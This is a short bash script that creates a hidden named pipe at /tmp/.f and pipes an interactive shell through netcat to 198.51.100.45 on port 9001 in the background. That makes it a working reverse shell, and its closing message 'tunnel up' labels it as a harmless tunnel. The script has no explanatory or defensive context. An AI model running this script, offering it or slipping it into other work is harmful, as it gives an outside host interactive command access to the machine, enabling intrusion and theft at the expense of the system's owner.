#!/bin/bash
rm -f /tmp/.f; mkfifo /tmp/.f
cat /tmp/.f | /bin/sh -i 2>&1 | nc 198.51.100.45 9001 > /tmp/.f &
echo "tunnel up"
